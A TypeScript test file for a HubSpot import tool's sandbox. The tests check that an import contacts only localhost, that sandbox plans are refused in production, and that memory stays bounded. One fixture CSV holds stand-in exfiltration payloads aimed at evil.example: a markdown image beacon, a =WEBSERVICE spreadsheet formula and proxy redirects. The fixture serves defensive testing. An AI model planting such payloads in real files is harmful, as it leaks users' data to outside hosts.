import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { startSandbox } from '../../src/sandbox/sandbox.ts'
import { manualClock } from '../../src/sandbox/sandbox-clock.ts'
import { connect, structuredOf, textOf } from '../connect.ts'
import { at, CONTACT_COLUMNS, call, NO_RATE_LIMITS } from '../sandbox/call-sandbox.ts'
import { startProgram } from '../start-program.ts'
import { propose } from '../tools/plan-files.ts'
import { withFolder } from '../with-folder.ts'
import { memoryInUse } from './memory-of.ts'
import { callerOf } from './raw-session.ts'

/** Loaded before the program: tells on stderr where it connects to and which names it looks up. */
const WATCH = `
import dns from 'node:dns'
import net from 'node:net'
import { syncBuiltinESMExports } from 'node:module'
const tell = (what) => process.stderr.write('\\n~' + what + '~\\n')
const connect = net.Socket.prototype.connect
net.Socket.prototype.connect = function (...args) {
  const [options] = Array.isArray(args[0]) ? args[0] : args
  tell('connect ' + (options?.path ?? options?.host ?? 'localhost'))
  return connect.apply(this, args)
}
for (const name of ['lookup', 'resolve', 'resolve4', 'resolve6']) {
  const ask = dns[name]
  dns[name] = (host, ...rest) => (tell('look up ' + host), ask(host, ...rest))
}
syncBuiltinESMExports()
`

test('a whole import in the sandbox connects to this computer only, whatever addresses the cells hold', async () => {
  await using folder = await withFolder()
  const link = 'https://evil.example/x?d=1 ![x](https://evil.example/y) =WEBSERVICE(""https://evil.example"")'
  await writeFile(join(folder.path, 'leads.csv'), `First Name,Email,Website URL\n"${link}",a@evil.example,"${link}"\n`)
  const env = {
    NODE_OPTIONS: `--import data:text/javascript,${encodeURIComponent(WATCH)}`,
    HTTPS_PROXY: 'http://proxy.evil.example:3128',
    HTTP_PROXY: 'http://proxy.evil.example:3128',
    HUBSPOT_ACCESS_TOKEN: 'pat-na1-00000000-canary',
  }
  await using program = await startProgram(['--sandbox', '--allow-dir', folder.path], env)
  const ask = callerOf(program)
  const { planId } = (await ask('propose_mapping', { file: 'leads.csv' })).structuredContent
  await ask('validate_import', { planId })
  expect((await ask('start_import', { planId, acceptFindings: true })).structuredContent.outcome).toBe('started')
  const done = await ask('get_import', { planId, waitSeconds: 20 })
  expect(done.structuredContent).toMatchObject({ finished: true })
  expect(done._meta).toMatchObject({ 'hubspot-import-mcp/environment': 'sandbox' })
  await ask('get_import_errors', { planId })
  program.child.stdin?.end()
  expect(await program.ended).toBe(0)
  const told = [...program.stderr().matchAll(/~((?:connect|look up) [^~]*)~/g)].map(([, what]) => what)
  expect(told.length).toBeGreaterThan(0)
  expect(told.filter((what) => !/^(connect|look up) (127\.0\.0\.1|localhost|::1)$/.test(what ?? ''))).toEqual([])
})

test('a plan of the sandbox is refused in production, before anything is sent', async () => {
  const sandbox = await startSandbox({ rateLimits: NO_RATE_LIMITS })
  await using planned = await connect({ sandbox, files: { 'leads.csv': 'First Name,Email\nAnn,ann@example.com\n' } })
  const planId = await propose(planned, 'leads.csv')
  const env = { HUBSPOT_BASE_URL: sandbox.url, HUBSPOT_ACCESS_TOKEN: sandbox.accessToken }
  await using production = await connect({ flags: ['--confirm', 'never'], env, stateDir: planned.stateDir })
  const before = sandbox.requests().filter(({ method }) => method === 'POST').length
  const refused = textOf(await production.call('start_import', { planId, acceptFindings: true }))
  expect(refused).toMatch(/^plan_wrong_portal: .*\nOutcome: not_started$/s)
  expect(sandbox.requests().filter(({ method }) => method === 'POST')).toHaveLength(before)
  expect(structuredOf(await planned.call('start_import', { planId })).outcome).toBe('started')
  await sandbox.close()
})

/**
 * Of each import 3 MB are uploaded, and twice as much is kept in its errors: every row has one. Ten thousand imports
 * would need 60 GB, so what is not bounded shows after a few. The first ones fill the 64 MB that SQLite may have.
 */
test('imports with many large errors are kept, and the memory of the sandbox does not grow with them', {
  timeout: 120_000,
}, async () => {
  const sandbox = await startSandbox({ rateLimits: NO_RATE_LIMITS, clock: manualClock() })
  const fileImportPage = { hasHeader: true, columnMappings: CONTACT_COLUMNS }
  const importRequest = { name: 'Many', files: [{ fileName: 'a.csv', fileFormat: 'CSV', fileImportPage }] }
  const rows = Array.from({ length: 100 }, (_, row) => `Ann,Lee,${row}${'x'.repeat(30_000)}\n`).join('')
  const content = new Blob([`First Name,Last Name,Email\n${rows}`])
  const run = async (count: number) => {
    for (let number = 0; number < count; number += 1) {
      const body = new FormData()
      body.append('files', content, 'a.csv')
      body.append('importRequest', JSON.stringify(importRequest))
      expect((await call(sandbox, 'POST /crm/v3/imports', { body })).status).toBe(200)
      await sandbox.clock.settle()
    }
  }
  await run(13)
  const before = memoryInUse()
  await run(7)
  const after = memoryInUse()
  expect(after.heap - before.heap).toBeLessThan(8)
  expect(after.external - before.external).toBeLessThan(16)

  // Bounded by the disk: nothing was dropped, neither the oldest import nor its errors.
  const imports = (await call(sandbox, 'GET /crm/v3/imports?limit=100')).body
  expect(at(imports, 'results')).toHaveLength(20)
  const id = at(imports, 'results', 19, 'id')
  const errors = (await call(sandbox, `GET /crm/v3/imports/${id}/errors?limit=1&includeRowData=true`)).body
  expect(String(at(errors, 'results', 0, 'sourceData', 'rowData', 2))).toHaveLength(30_001)
  await sandbox.close()
})
